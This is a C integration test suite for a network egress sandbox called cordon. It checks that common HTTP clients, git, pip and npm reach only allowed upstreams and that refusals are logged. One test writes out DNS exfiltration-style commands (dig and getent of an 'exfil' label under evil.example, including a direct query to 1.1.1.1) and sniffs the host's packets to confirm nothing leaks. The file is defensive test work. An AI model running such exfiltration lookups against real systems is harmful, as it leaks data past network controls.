/*
 * Issue 19's real clients, each inside a real `cordon run` job with
 * nothing set but what the launcher sets: curl, wget, python3's urllib
 * and requests, git clone over https, node 20's fetch() and https.get, a
 * Go program with a Transport of its own (Proxy nil; built here, no
 * network), and a raw-socket C client. Each reaches an allowed upstream
 * on 127.0.0.1 (TLS terminated by the job's CA) and is refused a path no
 * rule allows, with a decision line of the proxy's each time. pip and
 * npm are refused their registries and say so; the job's denials
 * endpoint names them. An unlisted name is NXDOMAIN to dig and getent,
 * and no packet anywhere on the host carries it. A client whose binary
 * is missing is skipped (the test then exits 77, the reason printed).
 */
#include "clientkit.h"
#include "harness.h"
#include "upstream.h"

#include <arpa/inet.h>
#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define JOBS CORDON_SOURCE_DIR "/tests/integration/jobs/clients"

static struct stack st;
static struct upstream *plain;
static struct clientkit_tls tls;

/* The clients, by the binary each needs; missing[i] when it is not
 * there (decided in main, before the tests fork). */
static const struct {
	const char *name, *bin;
} clients[] = {
	{ "curl", "/usr/bin/curl" },
	{ "wget", "/usr/bin/wget" },
	{ "urllib", "/usr/bin/python3" },
	{ "requests", "/usr/lib/python3/dist-packages/requests/__init__.py" },
	{ "git", "/usr/bin/git" },
	{ "node-fetch", "/usr/bin/node" },
	{ "node-get", "/usr/bin/node" },
	{ "node-connect", "/usr/bin/node" },
	{ "go", "/usr/bin/go" },
	{ "raw", "/usr/bin/cc" },
	{ "pip", "/usr/lib/python3/dist-packages/pip/__init__.py" },
	{ "npm", "/usr/bin/npm" },
	{ "dig", "/usr/bin/dig" },
};
#define NCLIENTS (sizeof(clients) / sizeof(clients[0]))
static bool missing[NCLIENTS];

static bool
have(const char *name)
{
	for (size_t i = 0; i < NCLIENTS; i++)
		if (strcmp(clients[i].name, name) == 0)
			return !missing[i];
	return false;
}

/* The upstream's files: ok/<client>.txt for each, and a bare git
 * repository (git's "dumb" protocol: plain files). */
static void
make_files(const char *dir)
{
	char cmd[4096], path[600];

	snprintf(path, sizeof(path), "%s/srv/ok", dir);
	ck_assert_int_eq(mkdir(path, 0755) == 0 || errno == EEXIST, 1);
	for (size_t i = 0; i < NCLIENTS; i++) {
		char text[64];
		snprintf(path, sizeof(path), "%s/srv/ok/%s.txt", dir,
		    clients[i].name);
		snprintf(text, sizeof(text), "hello %s\n", clients[i].name);
		harness_write_file(path, text);
		chmod(path, 0644);
	}
	snprintf(cmd, sizeof(cmd),
	    "set -e; cd '%s'; git init -q -b main work; cd work; "
	    "printf 'cloned through cordon\\n' > README.md; "
	    "git -c user.name=t -c user.email=t@t add README.md; "
	    "git -c user.name=t -c user.email=t@t commit -q -m one; cd ..; "
	    "git clone -q --bare work srv/repo.git; "
	    "git -C srv/repo.git update-server-info",
	    dir);
	ck_assert_msg(system(cmd) == 0, "the test repository: %s", cmd);
}

static void
setup(void)
{
	const char *dir = harness_tmpdir();
	char path[600];
	struct stack_options o = { .uid_base = 537000,
		.hosts = "127.0.0.1 tls.test api.test\n",
		.upstream_ca_file = tls.ca };

	signal(SIGPIPE, SIG_IGN);
	clientkit_tls_prepare(&tls, dir);
	make_files(dir);
	clientkit_tls_start(&tls);
	plain = upstream_start(NULL, NULL);
	ck_assert_ptr_nonnull(plain);
	stack_start(&st, &o);
	snprintf(path, sizeof(path), "%s/repo", st.inputs);
	ck_assert_int_eq(mkdir(path, 0755), 0);

	json_t *m = json_pack("{s:s, s:[s], s:[{s:s, s:i, s:s, s:[s, s], "
			      "s:[s, s], s:s, s:[s]}, {s:s, s:i, s:[s], "
			      "s:[s], s:s, s:[s]}], s:{s:i, s:i, s:i}}",
	    "name", "clients-job", "command", "/bin/true", "egress", "host",
	    "tls.test", "port", (int)tls.port, "tls", "terminate", "methods",
	    "GET", "HEAD", "paths", "/ok/", "/repo.git/", "reason", "the files",
	    "allow_cidrs", "127.0.0.0/8", "host", "api.test", "port",
	    upstream_port(plain), "methods", "GET", "paths", "/ok/", "reason",
	    "plain", "allow_cidrs", "127.0.0.0/8", "limits", "wall_seconds",
	    120, "memory_mb", 1024, "pids", 256);
	json_decref(harness_expect(&st.broker, 200, "PUT",
	    "/v1/manifests/clients-job", st.admin, NULL, m));
}

static void
teardown(void)
{
	clientkit_tls_stop(&tls);
	upstream_stop(plain);
	stack_stop(&st);
}

/* Copies a file of jobs/clients into the job's input, mode 0755. */
static void
copy_in(const char *from, const char *name)
{
	char to[600], cmd[1500];

	snprintf(to, sizeof(to), "%s/repo/%s", st.inputs, name);
	snprintf(cmd, sizeof(cmd), "cp '%s' '%s' && chmod 0755 '%s'", from, to,
	    to);
	ck_assert_msg(system(cmd) == 0, "%s", cmd);
}

/* The Go program and the C client, built once before the tests. */
static char gofetch[600], raw[600];

/*
 * Builds the test's Go program, with its caches in a directory of its
 * own and no network, and the raw-socket C client: an unchecked fixture,
 * run once in the runner's process, outside the tests' timeouts. A cold
 * Go build is about 7 s of CPU; inside the test, at load 24 on this
 * 2-core machine (taskset -c 0), it took more than its 120 s and the test
 * failed ("go build: -1"), and at load 22 the test took 117 of its 180 s.
 * Here the Go build has 400 s and cc 120 (it had harness_run's 10).
 */
static void
prebuild(void)
{
	const char *dir = harness_tmpdir();
	char cache[400], gopath[400], o[8192], e[8192];

	snprintf(gofetch, sizeof(gofetch), "%s/gofetch", dir);
	snprintf(raw, sizeof(raw), "%s/raw", dir);
	if (have("go")) {
		snprintf(cache, sizeof(cache), "GOCACHE=%s/cache", dir);
		snprintf(gopath, sizeof(gopath), "GOPATH=%s/path", dir);
		char *argv[] = { "/usr/bin/env", cache, gopath,
			"GOFLAGS=-mod=mod", "GOPROXY=off", "GO111MODULE=auto",
			"CGO_ENABLED=0", "/usr/bin/go", "build", "-o", gofetch,
			JOBS "/fetch.go", NULL };
		int status =
		    harness_run_for(argv, 400000, o, sizeof(o), e, sizeof(e));
		ck_assert_msg(status == 0, "go build: %d\n%s%s", status, o, e);
	}
	if (have("raw")) {
		char *argv[] = { "/usr/bin/cc", "-o", raw, JOBS "/raw.c",
			NULL };
		int status =
		    harness_run_for(argv, 120000, o, sizeof(o), e, sizeof(e));
		ck_assert_msg(status == 0, "cc: %d\n%s%s", status, o, e);
	}
}

/* A run of clients-job (clientkit_run): the job's stdout (free it). */
static char *
run_stdout(const char *script)
{
	return clientkit_run(&st, "clients-job", script, "CLIENTS_DEBUG", NULL);
}

/* The proxy's decision line (clientkit_logged, any kind). */
static bool
logged(const char *host, const char *path, const char *decision,
    const char *reason)
{
	return clientkit_logged(&st.proxy, host, path, decision, reason, NULL);
}

/* Asserts out has line, for client (skipped when missing). */
#define EXPECT(client, ...)                                                    \
	do {                                                                   \
		char want_[512];                                               \
		snprintf(want_, sizeof(want_), __VA_ARGS__);                   \
		if (have(client))                                              \
			ck_assert_msg(strstr(out, want_) != NULL,              \
			    "%s: no \"%s\" in:\n%s", client, want_, out);      \
	} while (0)

/* The allow and the deny of client, in the proxy's log. */
static void
expect_lines(const char *client, const char *host, const char *ok,
    const char *no)
{
	if (!have(client))
		return;
	ck_assert_msg(logged(host, ok, "allow", NULL), "%s: no allow of %s",
	    client, ok);
	ck_assert_msg(logged(host, no, "deny", "path"), "%s: no deny of %s",
	    client, no);
}

START_TEST(every_client_reaches_the_allowed_and_is_refused_the_rest)
{
	static char script[12000];
	char u[128];
	unsigned ap = upstream_port(plain);

	if (have("go"))
		copy_in(gofetch, "gofetch");
	if (have("raw"))
		copy_in(raw, "raw");
	copy_in(JOBS "/node.js", "node.js");
	snprintf(u, sizeof(u), "https://tls.test:%u", tls.port);
	snprintf(script, sizeof(script),
	    "U=%s\n"
	    "if [ -x /usr/bin/curl ]; then\n"
	    " curl -s $U/ok/curl.txt\n"
	    " curl -s -o /dev/null -w 'curl-deny %%{http_code}\\n' "
	    "$U/no/curl.txt\n"
	    "fi\n"
	    "if [ -x /usr/bin/wget ]; then\n"
	    " wget -qO- $U/ok/wget.txt\n"
	    " wget -q -O /dev/null $U/no/wget.txt; echo wget-deny=$?\n"
	    "fi\n"
	    "/usr/bin/python3 -c \"import urllib.request as u, urllib.error as "
	    "e\n"
	    "print(u.urlopen('$U/ok/urllib.txt').read().decode().strip())\n"
	    "try: u.urlopen('$U/no/urllib.txt')\n"
	    "except e.HTTPError as x: print('urllib-deny', x.code, "
	    "x.headers['X-Cordon-Deny'])\"\n"
	    "/usr/bin/python3 -c \"import requests\n"
	    "print(requests.get('$U/ok/requests.txt').text.strip())\n"
	    "r=requests.get('$U/no/requests.txt')\n"
	    "print('requests-deny', r.status_code, "
	    "r.headers.get('X-Cordon-Deny'))\"\n"
	    "if [ -x /usr/bin/git ]; then\n"
	    " git clone -q $U/repo.git /tmp/c1 && cat /tmp/c1/README.md\n"
	    " git clone -q $U/no/repo.git /tmp/c2 2>/tmp/git.err; "
	    "echo git-deny=$?; grep -o 'error: 403' /tmp/git.err\n"
	    "fi\n"
	    "if [ -x /usr/bin/node ]; then\n"
	    " /usr/bin/node node.js fetch $U/ok/node-fetch.txt "
	    "$U/no/node-fetch.txt https://deny.test/x\n"
	    " /usr/bin/node node.js get $U/ok/node-get.txt $U/no/node-get.txt\n"
	    " /usr/bin/node node.js connect $U/ok/node-connect.txt "
	    "$U/no/node-connect.txt\n"
	    "fi\n"
	    "[ -x ./gofetch ] && ./gofetch $U/ok/go.txt $U/no/go.txt "
	    "https://deny.test/x\n"
	    "[ -x ./raw ] && { ./raw api.test %u /ok/raw; ./raw api.test %u "
	    "/no/raw; ./raw deny.test 80 /x; }\n"
	    "exit 0\n",
	    u, ap, ap);
	char *out = run_stdout(script);

	EXPECT("curl", "hello curl\n");
	EXPECT("curl", "curl-deny 403\n");
	EXPECT("wget", "hello wget\n");
	EXPECT("wget", "wget-deny=8\n");
	EXPECT("urllib", "hello urllib\n");
	EXPECT("urllib", "urllib-deny 403 path\n");
	EXPECT("requests", "hello requests\n");
	EXPECT("requests", "requests-deny 403 path\n");
	EXPECT("git", "cloned through cordon\n");
	EXPECT("git", "git-deny=128\nerror: 403\n");
	EXPECT("node-fetch", "node-fetch %s/ok/node-fetch.txt 200\n", u);
	EXPECT("node-fetch", "node-fetch %s/no/node-fetch.txt 403\n", u);
	EXPECT("node-fetch",
	    "node-fetch https://deny.test/x error ENOTFOUND\n");
	EXPECT("node-get", "node-get %s/ok/node-get.txt 200\n", u);
	EXPECT("node-get", "node-get %s/no/node-get.txt 403\n", u);
	/* Node's CONNECT with its default Host, the relay's address. */
	EXPECT("node-connect", "node-connect %s/ok/node-connect.txt 200\n", u);
	EXPECT("node-connect", "node-connect %s/no/node-connect.txt 403\n", u);
	EXPECT("go", "go %s/ok/go.txt 200 \"hello go\\n\"\n", u);
	EXPECT("go", "go %s/no/go.txt 403 ", u);
	EXPECT("go", "go https://deny.test/x error ");
	EXPECT("raw", "raw api.test /ok/raw HTTP/1.1 200 OK\n");
	EXPECT("raw",
	    "raw api.test /no/raw HTTP/1.1 403 Forbidden by cordon: path "
	    "(GET http://cordon.local/v1/denials)\n");
	EXPECT("raw", "raw deny.test /x resolve: ");
	free(out);

	/* A decision line for each: the allow and the refused path. */
	static const char *const tls_clients[] = { "curl", "wget", "urllib",
		"requests", "node-fetch", "node-get", "node-connect", "go" };
	for (size_t i = 0; i < sizeof(tls_clients) / sizeof(tls_clients[0]);
	     i++) {
		char ok[64], no[64];
		snprintf(ok, sizeof(ok), "/ok/%s.txt", tls_clients[i]);
		snprintf(no, sizeof(no), "/no/%s.txt", tls_clients[i]);
		expect_lines(tls_clients[i], "tls.test", ok, no);
	}
	expect_lines("git", "tls.test", "/repo.git/", "/no/repo.git/");
	expect_lines("raw", "api.test", "/ok/raw", "/no/raw");
	/* The refused name of the clients that resolve it themselves. */
	if (have("node-fetch") || have("go") || have("raw"))
		ck_assert(logged("deny.test", NULL, "deny", "no_rule"));
}
END_TEST

/* Watches every packet the host sees (all its interfaces, a packet
 * socket) for a name, while the job runs. */
struct sniffer {
	pthread_t thread;
	int fd;
	const char *name;
	atomic_bool stop;
	atomic_uint seen, packets;
};

static void *
sniff(void *arg)
{
	struct sniffer *s = arg;
	char pkt[65536];
	size_t n = strlen(s->name);

	while (!atomic_load(&s->stop)) {
		struct pollfd p = { .fd = s->fd, .events = POLLIN };
		if (poll(&p, 1, 100) <= 0)
			continue;
		ssize_t got = recv(s->fd, pkt, sizeof(pkt), MSG_DONTWAIT);
		if (got <= 0)
			continue;
		atomic_fetch_add(&s->packets, 1);
		if (memmem(pkt, (size_t)got, s->name, n) != NULL)
			atomic_fetch_add(&s->seen, 1);
	}
	return NULL;
}

START_TEST(registries_are_refused_and_a_name_never_leaves)
{
	char name[64], script[4096];
	struct sniffer s = { .fd = -1 };
	/* The host's resolver ports on loopback, where free. */
	static const char *const watch_at[] = { "127.0.0.53", "127.0.0.1" };
	int watch[2] = { -1, -1 };

	/* A label of its own: what no packet may carry. */
	snprintf(name, sizeof(name), "exfil%dq%ld", (int)getpid(),
	    (long)time(NULL));
	s.name = name;
	s.fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	ck_assert_msg(s.fd >= 0, "a packet socket: %s", strerror(errno));
	ck_assert_int_eq(pthread_create(&s.thread, NULL, sniff, &s), 0);
	for (int i = 0; i < 2; i++) {
		struct sockaddr_in sin = { .sin_family = AF_INET,
			.sin_port = htons(53) };
		inet_pton(AF_INET, watch_at[i], &sin.sin_addr);
		watch[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (watch[i] >= 0 &&
		    bind(watch[i], (struct sockaddr *)&sin, sizeof(sin)) < 0) {
			close(watch[i]);
			watch[i] = -1;
		}
	}

	snprintf(script, sizeof(script),
	    "if [ -x /usr/bin/dig ]; then\n"
	    " dig +time=2 +tries=1 %s.evil.example | grep -o 'status: "
	    "[A-Z]*'\n"
	    " dig +time=2 +tries=1 @1.1.1.1 %s.evil.example >/dev/null; "
	    "echo dig-direct=$?\n"
	    "fi\n"
	    "getent hosts %s.evil.example; echo getent=$?\n"
	    "if [ -f /usr/lib/python3/dist-packages/pip/__init__.py ]; then\n"
	    " /usr/bin/python3 -m pip install --break-system-packages "
	    "--no-cache-dir --disable-pip-version-check --retries 1 "
	    "--timeout 10 somepkg > /tmp/pip.out 2>&1; echo pip=$?\n"
	    " grep -o 'Tunnel connection failed: 403 [^)]*)' /tmp/pip.out "
	    "| head -1\n"
	    "fi\n"
	    "if [ -x /usr/bin/npm ]; then\n"
	    " mkdir -p /tmp/n && cd /tmp/n && npm install --no-audit --no-fund "
	    "--fetch-retries=0 --fetch-timeout=10000 somepkg > /tmp/npm.out "
	    "2>&1; echo npm=$?\n"
	    " grep -o '403 Forbidden by cordon: [^)]*) - GET [^ ]* - denied' "
	    "/tmp/npm.out | head -1\n"
	    "fi\n"
	    "curl -s http://cordon.local/v1/denials > /tmp/why.json\n"
	    "/usr/bin/python3 -c \"import json\n"
	    "d=json.load(open('/tmp/why.json'))['denials']\n"
	    "for h in ('pypi.org','registry.npmjs.org','%s.evil.example'):\n"
	    " e=[x for x in d if x['host']==h]\n"
	    " print('why',h,e[0]['reason'] if e else None,"
	    "json.dumps(e[0]['rule'],sort_keys=True) if e else None)\"\n",
	    name, name, name, name);
	char *out = run_stdout(script);

	atomic_store(&s.stop, true);
	pthread_join(s.thread, NULL);
	close(s.fd);
	if (getenv("CLIENTS_DEBUG") != NULL)
		fprintf(stderr, "packets seen while the job ran: %u\n",
		    atomic_load(&s.packets));
	EXPECT("dig", "status: NXDOMAIN\n");
	EXPECT("dig", "dig-direct=9\n");
	ck_assert_msg(strstr(out, "getent=2\n") != NULL, "%s", out);
	/* Both print the status line's reason phrase: the reason and
	 * where to ask why. */
	EXPECT("pip",
	    "pip=1\nTunnel connection failed: 403 Forbidden by cordon: "
	    "no_rule (GET http://cordon.local/v1/denials)\n");
	EXPECT("npm",
	    "npm=1\n403 Forbidden by cordon: no_rule (GET "
	    "http://cordon.local/v1/denials) - GET "
	    "https://registry.npmjs.org/somepkg - denied\n");
	EXPECT("pip",
	    "why pypi.org no_rule {\"host\": \"pypi.org\", "
	    "\"methods\": [\"GET\"], \"reason\": \"say why the job "
	    "must reach this\", \"registry\": true}\n");
	EXPECT("npm",
	    "why registry.npmjs.org no_rule {\"host\": "
	    "\"registry.npmjs.org\", \"methods\": [\"GET\"], "
	    "\"reason\": \"say why the job must reach this\", "
	    "\"registry\": true}\n");
	char want[256];
	snprintf(want, sizeof(want), "why %s.evil.example no_rule ", name);
	ck_assert_msg(strstr(out, want) != NULL, "%s", out);
	free(out);
	if (have("pip"))
		ck_assert(logged("pypi.org", NULL, "deny", "no_rule"));
	if (have("npm"))
		ck_assert(
		    logged("registry.npmjs.org", NULL, "deny", "no_rule"));
	/* Nothing carried the name out of the namespace. */
	ck_assert_uint_gt(atomic_load(&s.packets), 0);
	ck_assert_msg(atomic_load(&s.seen) == 0,
	    "%u packets on the host carried %s", atomic_load(&s.seen), name);
	for (int i = 0; i < 2; i++) {
		if (watch[i] < 0)
			continue;
		struct pollfd p = { .fd = watch[i], .events = POLLIN };
		ck_assert_msg(poll(&p, 1, 0) == 0,
		    "a packet reached the host's %s:53", watch_at[i]);
		close(watch[i]);
	}
}
END_TEST

static Suite *
suite(void)
{
	Suite *s = suite_create("clients");
	TCase *tc = tcase_create("clients");

	tcase_add_unchecked_fixture(tc, prebuild, NULL);
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 180);
	tcase_add_test(tc,
	    every_client_reaches_the_allowed_and_is_refused_the_rest);
	tcase_add_test(tc, registries_are_refused_and_a_name_never_leaves);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	size_t skipped = 0;

	for (size_t i = 0; i < NCLIENTS; i++) {
		missing[i] = access(clients[i].bin, F_OK) != 0;
		if (missing[i]) {
			printf("it_clients: skipping %s: no %s\n",
			    clients[i].name, clients[i].bin);
			skipped++;
		}
	}
	int r = harness_main(suite());
	return r == 0 && skipped > 0 ? 77 : r;
}
